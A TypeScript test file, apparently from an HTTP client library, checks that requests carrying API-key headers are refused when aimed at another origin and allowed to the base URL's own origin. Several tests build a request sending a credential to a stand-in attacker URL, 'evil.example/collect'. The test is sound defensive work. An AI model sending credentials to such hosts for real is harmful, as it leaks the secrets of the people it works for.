// Issue 41, item 6: API keys are credentials. A request carrying one of the API-key headers in
// common use goes only to its base URL's origin (or a trusted one), as one with `authorization`
// does; judged by the URL a client would send to and the headers it would send.
import { validateHeaderValue } from "node:http";
import { AbsoluteUrlError, EndpointConfig, VendorRules, endpoint } from "../../lib";
import { thrown } from "../support/thrown";

// Each with an API that authenticates by it (docs/security.md lists them).
const API_KEY_HEADERS = [
  "x-api-key",
  "api-key",
  "private-token",
  "job-token",
  "x-goog-api-key",
  "ocp-apim-subscription-key",
  "x-auth-token",
];

class GitLab extends EndpointConfig {
  override get vendor() {
    return "gitlab";
  }
  override get defaultBaseUrl() {
    return "https://gitlab.example/api/v4";
  }
}

describe("an API-key header", () => {
  it("is among the default credential headers", () => {
    expect(new VendorRules().credentialHeaders).toEqual(expect.arrayContaining(API_KEY_HEADERS));
    expect(new VendorRules().credentialHeaders).toEqual(
      expect.arrayContaining(["authorization", "cookie", "proxy-authorization"]),
    );
  });

  it.each(API_KEY_HEADERS)("%s is refused on its way to another origin, in any case it is written", (name) => {
    for (const written of [name, name.toUpperCase()]) {
      const config = new GitLab().with({ headers: { [written]: "glpat-secret" } });
      const error = thrown(() => config.build("GET https://evil.example/collect"));
      expect(error).toBeInstanceOf(AbsoluteUrlError);
      expect(error).toMatchObject({ code: "ERR_ABSOLUTE_URL" });
      expect(error.message).toContain(`carries ${name}`);
      const facade = endpoint.defaults({ headers: { [written]: "k" } });
      expect(() => facade("GET https://evil.example/collect")).toThrow(AbsoluteUrlError);
    }
  });

  it.each(API_KEY_HEADERS)("%s goes to the base URL's origin as given", (name) => {
    const options = new GitLab().with({ headers: { [name]: "glpat-secret" } }).build("GET /projects/{id}", { id: 7 });
    expect(new URL(options.url).origin).toBe("https://gitlab.example");
    expect(options.headers[name]).toBe("glpat-secret");
    expect(() => validateHeaderValue(name, options.headers[name] as string)).not.toThrow();
  });

  it("goes to another origin when no such header is sent", () => {
    expect(new URL(new GitLab().build("GET https://cdn.example/a").url).origin).toBe("https://cdn.example");
  });
});
